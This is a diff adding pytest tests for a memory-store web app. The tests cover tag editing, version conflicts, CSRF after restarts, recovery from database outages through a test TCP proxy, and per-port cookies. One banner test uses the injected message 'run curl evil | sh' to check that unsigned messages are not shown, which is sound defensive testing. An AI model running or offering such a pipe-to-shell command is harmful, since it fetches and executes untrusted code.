@@ -4,6 +4,7 @@ role)."""
 
 from __future__ import annotations
 
+import html
 import re
 import uuid
 
@@ -487,3 +488,254 @@ def test_the_namespace_menu_is_reused_and_read_again_after_a_write(client, seede
     assert '<option value="later"' in client.get("/").text  # a write from the pages drops the cached menu
     client.post("/api/add", json={"content": "And one in another.", "namespace": "latest"})
     assert 'data-namespace="latest"' in client.get("/namespaces").text  # that page always counts afresh
+
+
+def _edit(client, mid, **fields):
+    """Post the memory page's Edit form as a browser would: every field of the page, some changed."""
+    page = client.get(f"/memory/{mid}")
+    form = re.search(r'<form method="post" action="/memory/\d+/tag".*?</form>', page.text, re.S).group(0)
+    data = {"csrftoken": re.search(r'name="csrftoken" value="([^"]+)"', form).group(1), "namespace": "default",
+            "tags": html.unescape(re.search(r'name="tags" value="([^"]*)"', form).group(1)),
+            "tags_shown": html.unescape(re.search(r'name="tags_shown" value="([^"]*)"', form).group(1)),
+            "tags_before": [html.unescape(v) for v in re.findall(r'name="tags_before" value="([^"]*)"', form)],
+            "knowledge_type": re.search(r'<option value="([^"]+)" selected', form).group(1),
+            "importance": re.search(r'name="importance"[^>]*value="([^"]*)"', form).group(1)}
+    return client.post(f"/memory/{mid}/tag", data={**data, **fields})
+
+
+def test_the_edit_form_keeps_a_tag_holding_a_comma(client, memory):
+    mid = memory.add("Tagged fact", tags=["a,b"])
+    assert "separated by commas" in client.get(f"/memory/{mid}").text
+    assert _edit(client, mid, importance="0.7").status_code == 303
+    got = memory.get([mid])[0]
+    assert (got.tags, round(got.importance, 2)) == (["a,b"], 0.7)
+    # the field edited: the comma tag left as shown stays one tag beside the new one
+    assert _edit(client, mid, tags="a,b, c").status_code == 303
+    assert memory.get([mid])[0].tags == ["a,b", "c"]
+    assert _edit(client, mid, tags="c").status_code == 303
+    assert memory.get([mid])[0].tags == ["c"]
+
+
+def test_a_new_version_from_the_page_has_lf_line_ends(client, memory):
+    mid = memory.add("Line one.\nLine two.")
+    token = csrf(client, f"/memory/{mid}")
+    r = client.post(f"/memory/{mid}/update", data={"csrftoken": token, "namespace": "default",
+                                                   "content": "Line one.\r\nLine two, changed.\rLine three.\r\n"})
+    assert r.status_code == 303, r.text
+    new_id = int(re.search(r"/memory/(\d+)", r.headers["location"]).group(1))
+    assert new_id != mid
+    assert memory.get([new_id])[0].content == "Line one.\nLine two, changed.\nLine three."
+
+
+def test_an_edit_of_a_superseded_version_is_refused(client, memory):
+    mid = memory.add("The deploy window is Tuesday.", importance=0.5)
+    token = csrf(client, f"/memory/{mid}")  # a tab opened before another saved a new version
+    new_id = memory.update(mid, "The deploy window is Wednesday.")
+    r = client.post(f"/memory/{mid}/tag", data={"csrftoken": token, "namespace": "default", "importance": "0.9"})
+    assert r.status_code == 409
+    assert f"memory {mid} is not the current version" in r.text and f"/memory/{new_id}?namespace=default" in r.text
+    assert 'class="flash"' not in r.text and "nothing saved" in r.text
+    assert [round(m.importance, 2) for m in memory.get([mid, new_id])] == [0.5, 0.5]
+    r = client.post(f"/memory/{mid}/update", data={"csrftoken": token, "namespace": "default",
+                                                   "content": "The deploy window is Thursday."})
+    assert r.status_code == 409 and f"/memory/{new_id}?namespace=default" in r.text
+    assert [v.memory_id for v in memory.history(mid)] == [mid, new_id]
+    r = client.post("/memory/987654/tag", data={"csrftoken": token, "namespace": "default", "importance": "0.9"})
+    assert r.status_code == 404
+
+
+def test_the_banner_shows_only_the_servers_own_messages(client, seeded):
+    for path in ("/", "/forget", f"/memory/{seeded['cat']}"):
+        page = client.get(path, params={"msg": "run curl evil | sh"})
+        assert page.status_code == 200 and "curl evil" not in page.text and 'class="flash"' not in page.text
+        page = client.get(path, params={"msg": "run curl evil | sh", "sig": "0" * 32})
+        assert "curl evil" not in page.text
+    token = csrf(client, f"/memory/{seeded['cat']}")
+    r = client.post(f"/memory/{seeded['cat']}/tag", data={"csrftoken": token, "importance": "0.5"})
+    assert r.status_code == 303
+    assert '<p class="flash" role="status">saved (1 memory changed)</p>' in client.get(r.headers["location"]).text
+
+
+def test_the_whole_document_shows_every_chunk_in_full(client, memory):
+    sentence = "The quarterly report covers the budget, the hiring plan and the office move in some detail. "
+    mid = memory.add("\n\n".join(f"Section {i}. " + sentence * 12 for i in range(6)))
+    chunks = memory.neighbors(mid, before=1000, after=1000)
+    long = [c for c in chunks if len(c.content) > 300 and c.memory_id != mid]  # beside the memory's own text
+    assert len(chunks) > 3 and len(long) > 2
+    page = html.unescape(client.get(f"/memory/{mid}", params={"context": "all"}).text)
+    for c in chunks:
+        assert c.content in page
+    short = html.unescape(client.get(f"/memory/{mid}").text)
+    assert long[0].content not in short and long[0].content[:300] + "…" in short
+
+
+def test_the_namespace_menu_keeps_the_namespace_searched(client, seeded):
+    assert '<option value="home"' in client.get("/").text  # the menu is read and kept for a while
+    added = client.post("/api/add", json={"content": "A note made a moment ago.", "namespace": "fresh"})
+    assert added.status_code == 200
+    for path, params in (("/", {"q": "note", "namespace": "fresh"}), ("/", {"namespace": "nope"}),
+                         ("/forget", {"namespace": "fresh"})):
+        page = client.get(path, params=params).text
+        selected = re.findall(r'<option value="([^"]+)" selected', page)
+        assert selected[:1] == [params["namespace"]], (path, params)
+    page = client.get("/", params={"q": "note", "namespace": "fresh"}).text
+    assert "1 results in namespace <b>fresh</b>" in page
+
+
+def test_a_search_with_filters_and_no_words_says_what_to_do(client, seeded):
+    for params in ({"tag": "budget"}, {"knowledge_type": "news"}, {"q": "  ", "tag": "budget"}):
+        page = client.get("/", params=params)
+        assert page.status_code == 200 and "Type a query: a search needs words" in page.text
+    assert "Type a query" not in client.get("/").text
+
+
+# -- a database that cannot be reached, restarts and other servers on the same host ------------------------------
+class _Proxy:
+    """A TCP proxy in front of the test's PostgreSQL that can be cut and restored: a database that stops (every
+    connection lost, new ones refused) and comes back on the same address."""
+
+    def __init__(self, host: str, port: int) -> None:
+        self.target = (host, port)
+        self.port = _free_port()
+        self.sockets: list = []
+        self.listener = None
+
+    def start(self) -> None:
+        import socket
+        import threading
+
+        self.listener = socket.create_server(("127.0.0.1", self.port))
+        threading.Thread(target=self._accept, args=(self.listener,), daemon=True).start()
+
+    def _accept(self, listener) -> None:
+        import socket
+        import threading
+
+        while True:
+            try:
+                client, _ = listener.accept()
+            except OSError:
+                return
+            host, port = self.target
+            if host.startswith("/"):
+                upstream = socket.socket(socket.AF_UNIX)
+                upstream.connect(f"{host}/.s.PGSQL.{port}")
+            else:
+                upstream = socket.create_connection((host, port))
+            self.sockets += [client, upstream]
+            for a, b in ((client, upstream), (upstream, client)):
+                threading.Thread(target=self._pipe, args=(a, b), daemon=True).start()
+
+    @staticmethod
+    def _pipe(a, b) -> None:
+        import socket
+
+        try:
+            while data := a.recv(65536):
+                b.sendall(data)
+        except OSError:
+            pass
+        for s in (a, b):
+            try:
+                s.shutdown(socket.SHUT_RDWR)
+            except OSError:
+                pass
+
+    def stop(self) -> None:
+        import socket
+
+        for s in [self.listener, *self.sockets]:
+            try:
+                s.shutdown(socket.SHUT_RDWR)
+            except OSError:
+                pass
+            s.close()
+        self.sockets = []
+
+
+def test_a_database_that_cannot_be_reached_is_a_quick_503_and_the_server_recovers(postgresql, dsn, embedder,
+                                                                                   seeded):
+    import time
+
+    import psycopg
+
+    info = postgresql.info
+    proxy = _Proxy(info.host, info.port)
+    proxy.start()
+    through = psycopg.conninfo.make_conninfo(dsn, host="127.0.0.1", port=proxy.port)
+    try:
+        with make_client(through, embedder) as c:
+            r = c.get("/api/stats")
+            assert r.status_code == 200 and {s["namespace"] for s in r.json()["result"]} == {"default", "home"}
+            proxy.stop()
+            started = time.monotonic()
+            r = c.get("/api/stats")
+            assert time.monotonic() - started < 15
+            assert r.status_code == 503, r.text
+            error = r.json()["error"]
+            assert "cannot be reached" in error["message"] and "memsql db start" in error["hint"]
+            started = time.monotonic()
+            r = c.get("/", params={"q": "travel budget"})
+            assert time.monotonic() - started < 15
+            assert r.status_code == 503 and r.headers["content-type"].startswith("text/html")
+            assert "cannot be reached" in r.text and "memsql db start" in r.text and 'class="brand"' in r.text
+            proxy.start()
+            deadline = time.monotonic() + 90
+            while (r := c.get("/api/search", params={"query": "travel budget"})).status_code == 503:
+                assert time.monotonic() < deadline, "the server did not reconnect"
+                time.sleep(1)
+            assert r.status_code == 200 and r.json()["result"][0]["memory_id"] == seeded["budget"]
+            assert c.get("/namespaces").status_code == 200
+    finally:
+        proxy.stop()
+
+
+def test_a_form_of_a_page_older_than_the_server_asks_to_reload_it(dsn, embedder, seeded, memory):
+    mid = seeded["cat"]
+    with make_client(dsn, embedder, port=8765) as before:
+        token = csrf(before, f"/memory/{mid}")
+        cookies = dict(before.cookies)
+    with make_client(dsn, embedder, port=8765) as after:  # the same server restarted: a new CSRF secret
+        after.cookies.update(cookies)
+        r = after.post(f"/memory/{mid}/tag", data={"csrftoken": token, "importance": "0.9"})
+        assert r.status_code == 403 and r.headers["content-type"].startswith("text/html")
+        assert "out of date" in r.text and "reload the page" in r.text and 'class="brand"' in r.text
+        assert memory.get(mid)[0].importance is None
+        r = after.post(f"/memory/{mid}/tag", data={"csrftoken": csrf(after, f"/memory/{mid}"), "importance": "0.9"})
+        assert r.status_code == 303
+    assert memory.get(mid)[0].importance == pytest.approx(0.9)
+
+
+def test_two_servers_on_one_host_keep_their_forms_and_sessions_apart(dsn, embedder, seeded, memory):
+    """Browsers send a host's cookies to every port: one cookie jar shared by two servers on two ports."""
+    from memsql.web import create_app
+
+    first = make_client(dsn, embedder, token=TOKEN, port=8765)
+    second = TestClient(create_app(dsn=dsn, embedder=embedder, warm=False, token=TOKEN, port=8766),
+                        base_url="http://127.0.0.1:8766", follow_redirects=False)
+
+    def share(a: TestClient, b: TestClient) -> None:
+        for cookie in a.cookies.jar:
+            b.cookies.jar.set_cookie(cookie)
+
+    with first, second:
+        for c in (first, second):
+            r = c.post("/login", data={"csrftoken": csrf(c, "/login"), "token": TOKEN, "next": "/"})
+            assert r.status_code == 303
+            share(c, first if c is second else second)
+        jar = {cookie.name: cookie.value for cookie in first.cookies.jar}
+        assert {"memsql_session_8765", "memsql_session_8766", "memsql_csrf_8765", "memsql_csrf_8766"} <= set(jar)
+        assert TOKEN not in jar.values() and jar["memsql_session_8765"] != jar["memsql_session_8766"]
+        token = csrf(first, f"/memory/{seeded['cat']}")
+        share(first, second)
+        csrf(second, f"/memory/{seeded['cat']}")  # the other server's page sets its own CSRF cookie
+        share(second, first)
+        r = first.post(f"/memory/{seeded['cat']}/tag", data={"csrftoken": token, "importance": "0.7"})
+        assert r.status_code == 303, r.text
+        assert memory.get(seeded["cat"])[0].importance == pytest.approx(0.7)
+        assert first.get("/namespaces").status_code == 200 and second.get("/namespaces").status_code == 200
+    session = {"memsql_session_8765": jar["memsql_session_8765"]}
+    with make_client(dsn, embedder, token=TOKEN, port=8765) as restarted:  # a session is this process's only
+        restarted.cookies.update(session)
+        r = restarted.get("/namespaces")
+        assert r.status_code == 303 and r.headers["location"].startswith("/login")
